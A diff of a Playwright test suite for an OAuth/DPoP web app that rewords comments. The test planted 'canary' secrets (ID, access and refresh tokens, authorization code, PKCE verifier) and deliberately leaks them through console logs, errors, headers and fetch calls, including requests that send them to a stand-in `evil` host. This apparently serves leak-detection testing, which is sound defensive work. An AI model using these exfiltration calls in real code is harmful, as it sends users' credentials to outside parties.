@@ -20,7 +20,7 @@ const everywhere: Planted = {
   'authorization server': 'too',
 }
 
-/** The ways in which this test lets secrets out, and where each is to be found. */
+/** The ways in which this test leaks secrets, and the place where each leak is found. */
 const ways = {
   logged: 'console',
   cause: 'error',
@@ -75,7 +75,7 @@ test.describe('the canaries', () => {
     const kid = decodeProtectedHeader(idToken).kid ?? ''
     const jkt = (await proofIn(exchange!))?.jkt ?? ''
     const secrets = { idToken, token, refreshToken, code, code_verifier, jkt, kid }
-    // The last one tells the way.
+    // Each leak ends with the name of its way.
     const all = Object.fromEntries(
       Object.keys(ways).map((way) => [way, [...Object.values(secrets), way, kid].join('~')]),
     ) as Record<Way, string>
@@ -95,7 +95,7 @@ test.describe('the canaries', () => {
       await fetch(`${own}?${leak.query}`)
       await fetch(own, { method: 'POST', body: leak.body })
       await fetch(own, { headers: { 'x-test': leak.header } })
-      // Any other token than an access token.
+      // A token in the header that is no access token.
       await fetch(own, { headers: { authorization: `Bearer ${leak.bearer}` } })
       await fetch(`${evil}/${leak.path}`)
       await fetch(evil, { method: 'POST', body: leak.sent })
@@ -141,7 +141,7 @@ test('the test browsers keep and send no third-party cookie', async ({ app }) =>
   const took = (): (string | null)[] => arrived.splice(0)
   await app.open()
   expect([await call(), await call(), took()]).toEqual([200, 200, [null, null]])
-  // There itself it is a cookie like any other.
+  // On a page of the other origin it is a first-party cookie.
   await app.page.goto(other.origin)
   await app.page.goto(other.origin)
   expect(took()).toEqual([null, 'sid=1'])
